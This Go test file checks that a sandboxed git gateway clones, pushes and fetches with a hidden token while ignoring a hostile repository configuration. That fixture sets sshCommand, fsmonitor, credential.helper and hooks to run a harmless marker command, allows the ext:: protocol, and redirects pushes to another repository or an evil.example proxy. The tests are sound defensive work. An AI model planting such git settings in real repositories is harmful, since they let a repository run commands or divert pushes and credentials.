//go:build linux

package reach

import (
	"encoding/base64"
	"io/fs"
	"net/http"
	"net/http/cgi"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"bailey/internal/ktest"
)

const githubToken = "ghs_16C7e42F292c6912E7710c838347Ae178B4a"

// hub serves repositories to clients with the token, and records the requested ones.
type hub struct {
	*site
	dir string

	mu      sync.Mutex
	visited []string
}

func newHub(t *testing.T) *hub {
	h := &hub{site: newSite(t, "git"), dir: t.TempDir()}
	h.secrets = map[string]string{"github-token": githubToken}
	backend := &cgi.Handler{Path: "/usr/lib/git-core/git-http-backend", Env: []string{"GIT_PROJECT_ROOT=" + h.dir, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=x"}}
	serve := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.visited = append(h.visited, strings.SplitAfter(r.URL.Path, ".git")[0])
		h.mu.Unlock()
		if user, token, _ := r.BasicAuth(); user != "x-access-token" || token != githubToken {
			rw.Header().Set("WWW-Authenticate", `Basic realm="x"`)
			http.Error(rw, "who are you?", http.StatusUnauthorized)
			return
		}
		backend.ServeHTTP(rw, r)
	})
	h.https("github.com", "93.184.216.60", serve)
	h.https("evil.example", "93.184.216.61", serve)
	for _, name := range []string{"b.git", "other.git"} {
		bare := filepath.Join(h.dir, "a", name)
		said(t, "git", "init", "-q", "--bare", "-b", "main", bare)
		said(t, "git", "-C", bare, "config", "http.receivepack", "true")
		h.commit(h.work("seed-"+name), "first", bare)
	}
	return h
}

// work returns a new repository with a branch main.
func (h *hub) work(name string) string {
	dir := h.project(name)
	said(h.t, "git", "init", "-q", "-b", "main", dir)
	return dir
}

// commit commits a file, and pushes it if to is set.
func (h *hub) commit(dir, text, to string) string {
	if err := os.WriteFile(filepath.Join(dir, "file"), []byte(text+"\n"), 0o644); err != nil {
		h.t.Fatal(err)
	}
	said(h.t, "git", "-C", dir, "add", "file")
	said(h.t, "git", "-C", dir, "-c", "user.name=a", "-c", "user.email=a@b", "commit", "-q", "-m", text)
	if to != "" {
		said(h.t, "git", "-C", dir, "push", "-q", to, "main")
	}
	return h.id(dir, "main")
}

func (h *hub) id(dir, ref string) string {
	return strings.TrimSpace(said(h.t, "git", "-c", "safe.directory=*", "-C", dir, "rev-parse", ref))
}

// nowhere checks that no file in a directory contains the token, which only the edge of the cage has, or its
// placeholder.
func (h *hub) nowhere(dir string) {
	h.t.Helper()
	words := []string{githubToken, "bailey-placeholder", base64.StdEncoding.EncodeToString([]byte("x-access-token:" + githubToken))}
	filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || !d.Type().IsRegular() {
			return err
		}
		data, err := os.ReadFile(path)
		for _, w := range words {
			if strings.Contains(strings.ToLower(string(data)), strings.ToLower(w)) {
				h.t.Errorf("%s holds %s", path, w)
			}
		}
		return err
	})
}

// hostileRemotes is a repository configuration that redirects requests and pushes to another server.
const hostileRemotes = `
[core]
	repositoryformatversion = 0
	hooksPath = .git/traps
	sshCommand = touch ran
	fsmonitor = touch ran
	gitProxy = touch ran
	askPass = .git/traps/askpass
[credential]
	helper = !touch ran
[http]
	proxy = http://evil.example:443
	extraHeader = X-Other: yes
	followRedirects = true
[protocol "ext"]
	allow = always
[url "https://github.com/a/other.git"]
	insteadOf = https://github.com/a/b.git
	pushInsteadOf = https://github.com/a/b.git
[remote "https://github.com/a/b.git"]
	url = https://github.com/a/other.git
	pushurl = https://github.com/a/other.git
	vcs = ext
	receivepack = touch ran
	uploadpack = touch ran
[push]
	gpgSign = if-asked
	recurseSubmodules = on-demand
[fetch]
	recurseSubmodules = true
	writeCommitGraph = true
[gc]
	auto = 1
`

// hostile gives a repository that configuration, and hooks of each name.
func (h *hub) hostile(dir string) {
	for _, name := range []string{"hooks", "traps"} {
		for _, hook := range []string{"pre-push", "reference-transaction", "post-checkout", "post-merge", "pre-auto-gc", "askpass"} {
			path := filepath.Join(dir, ".git", name, hook)
			os.MkdirAll(filepath.Dir(path), 0o755)
			if err := os.WriteFile(path, []byte("#!/bin/sh\ntouch ran\n"), 0o755); err != nil {
				h.t.Fatal(err)
			}
		}
	}
	if err := os.WriteFile(filepath.Join(dir, ".git", "config"), []byte(hostileRemotes), 0o644); err != nil {
		h.t.Fatal(err)
	}
}

// stayed checks that no other repository was requested, no other name was looked up, and no program ran.
func (h *hub) stayed(dir string, repositories ...string) {
	h.t.Helper()
	h.mu.Lock()
	for _, path := range h.visited {
		if !slices.Contains(repositories, path) {
			h.t.Errorf("%s was asked for", path)
		}
	}
	h.mu.Unlock()
	h.site.only(h.t, "github.com")
	for _, at := range []string{"ran", ".git/ran"} {
		if _, err := os.Lstat(filepath.Join(dir, at)); err == nil {
			h.t.Errorf("%s: something ran", at)
		}
	}
}

// TestGitHub checks that a repository is cloned and a branch pushed with a token that neither git nor its files
// contain. The target must be the repository in the call, whatever the local configuration says.
func TestGitHub(t *testing.T) {
	ktest.Long(t)
	h := newHub(t)
	p := h.project("p")
	if r := h.callAt("gh.clone", "into", p, map[string]any{"repo": "a/b", "name": "copy"}); r.exit.Code != 0 {
		t.Fatalf("%d\n%s\n%+v", r.exit.Code, r, r.report)
	}
	if text, err := os.ReadFile(filepath.Join(p, "copy", "file")); string(text) != "first\n" {
		t.Errorf("%q, %v", text, err)
	}
	h.nowhere(p)

	w := h.work("w")
	said(t, "git", "-C", w, "pull", "-q", filepath.Join(h.dir, "a/b.git"), "main")
	second := h.commit(w, "second", "")
	h.hostile(w)
	os.WriteFile(filepath.Join(w, ".git", "config"), []byte(strings.ReplaceAll(hostileRemotes, "\tvcs = ext\n", "")), 0o644)
	if r := h.callAt("gh.push", "dir", w, map[string]any{"repo": "a/b", "ref": "main"}); r.exit.Code != 0 {
		t.Fatalf("%d\n%s\n%+v", r.exit.Code, r, r.report)
	}
	bare, other := filepath.Join(h.dir, "a/b.git"), filepath.Join(h.dir, "a/other.git")
	if got := h.id(bare, "main"); got != second {
		t.Errorf("main is %s, want %s", got, second)
	}
	if got := h.id(other, "main"); got == second {
		t.Error("it went to the other repository")
	}
	h.nowhere(w)
	h.stayed(w, "/a/b.git")

	// otherwise git fails before it goes there
	astray := strings.NewReplacer("\tvcs = ext\n", "", "\tproxy = http://evil.example:443\n", "")
	// Configuration can be in other files too. If git would read such a file, it is hidden along with the file that
	// refers to it, or the push is refused.
	for how, files := range map[string]map[string]string{
		"of the work tree": {".git/config": "[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n", ".git/config.worktree": hostileRemotes},
		"in common":        {".git/commondir": "../common\n", "common/config": hostileRemotes},
	} {
		x := h.work("x-" + strings.ReplaceAll(how, " ", "-"))
		h.commit(x, how, "")
		said(t, "cp", "-r", filepath.Join(x, ".git"), filepath.Join(x, "common"))
		for name, text := range files {
			if err := os.WriteFile(filepath.Join(x, name), []byte(astray.Replace(text)), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		// refused by the server, because its history differs, or by the gateway
		h.callAt("gh.push", "dir", x, map[string]any{"repo": "a/b", "ref": "main"})
		h.stayed(x, "/a/b.git")
	}

	// A push that would lose commits is refused, unless the call names the commit to lose.
	z := h.work("z")
	third := h.commit(z, "third", "")
	for _, try := range []struct {
		input map[string]any
		ok    bool
	}{
		{map[string]any{}, false}, {map[string]any{"replaces": third}, false}, {map[string]any{"replaces": second}, true},
	} {
		try.input["repo"], try.input["ref"] = "a/b", "main"
		r := h.callAt("gh.push", "dir", z, try.input)
		if got := h.id(bare, "main"); (got == third) != try.ok || (r.exit.Code == 0) != try.ok {
			t.Errorf("%v: %d, main is %s\n%s", try.input, r.exit.Code, got, r)
		}
	}

	h.secrets["github-token"] = "ghs_another"
	if r := h.callAt("gh.clone", "into", p, map[string]any{"repo": "a/b", "name": "again"}); r.exit.Code == 0 {
		t.Errorf("copied without the token:\n%s", r)
	}
	h.stayed(w, "/a/b.git")
}

// TestFetchesBranch checks that a branch can be fetched into a repository with a hostile configuration. The fetch must
// reach no other host, run nothing, and write only to refs/remotes.
func TestFetchesBranch(t *testing.T) {
	ktest.Long(t)
	h := newHub(t)
	y := yard(t, "git")
	h.world.mu.Lock()
	h.world.names, h.world.places, h.world.ca, h.world.key = y.names, y.places, y.ca, y.key
	h.world.mu.Unlock()
	const url = "https://api.example.com/git/repo.git"
	w := h.work("w")
	head := h.commit(w, "mine", "")
	if r := h.callAt("git.fetch", "repo", w, map[string]any{"url": url, "branch": "main"}); r.exit.Code != 0 {
		t.Fatalf("%d\n%s\n%+v", r.exit.Code, r, r.report)
	}
	if said(t, "git", "-C", w, "log", "-1", "--format=%s", "refs/remotes/origin/main") != "one\n" || h.id(w, "main") != head {
		t.Error(said(t, "git", "-C", w, "for-each-ref"))
	}
	// If a symbolic reference is in the place of the fetched branch, the fetch must not follow it to a branch, a tag or
	// HEAD.
	for _, to := range []string{"refs/heads/main", "refs/heads/new", "refs/tags/v1", "HEAD"} {
		before := said(t, "git", "-C", w, "for-each-ref", "refs/heads", "refs/tags") + said(t, "cat", filepath.Join(w, ".git/HEAD"))
		if err := os.WriteFile(filepath.Join(w, ".git/refs/remotes/origin/main"), []byte("ref: "+to+"\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		r := h.callAt("git.fetch", "repo", w, map[string]any{"url": url, "branch": "main"})
		if now := said(t, "git", "-C", w, "for-each-ref", "refs/heads", "refs/tags") + said(t, "cat", filepath.Join(w, ".git/HEAD")); now != before || r.exit.Code == 0 {
			t.Errorf("by a symbolic reference to %s: %d\n%s\nbefore %s\n%s", to, r.exit.Code, now, before, r)
		}
	}
	os.Remove(filepath.Join(w, ".git/refs/remotes/origin/main"))
	for name, config := range map[string]string{
		"another host": strings.NewReplacer("https://github.com/a/b.git", url, "https://github.com/a/other.git", "https://evil.example/git/repo.git").Replace(hostileRemotes),
		"a program":    strings.ReplaceAll(hostileRemotes, "https://github.com/a/b.git", url),
		"another way":  "[url \"ext::touch ran \"]\n\tinsteadOf = https://\n[protocol \"ext\"]\n\tallow = always\n",
		"redirected":   "[http \"https://api.example.com/away\"]\n\tfollowRedirects = true\n[url \"https://api.example.com/away\"]\n\tinsteadOf = " + url + "\n",
	} {
		h.hostile(w)
		if err := os.WriteFile(filepath.Join(w, ".git", "config"), []byte(config), 0o644); err != nil {
			t.Fatal(err)
		}
		r := h.callAt("git.fetch", "repo", w, map[string]any{"url": url, "branch": "main", "remote": "hostile"})
		for _, at := range []string{"ran", ".git/ran"} {
			if _, err := os.Lstat(filepath.Join(w, at)); err == nil {
				t.Errorf("%s: something ran\n%s", name, r)
			}
		}
		if _, err := os.Lstat(filepath.Join(w, ".git/refs/remotes/hostile/main")); err == nil && r.exit.Code != 0 {
			t.Errorf("%s: it failed, and is there\n%s", name, r)
		}
		for _, to := range h.reached() {
			if !strings.HasPrefix(to, "93.184.216.34:") {
				t.Errorf("%s: %s was reached", name, to)
			}
		}
	}
}
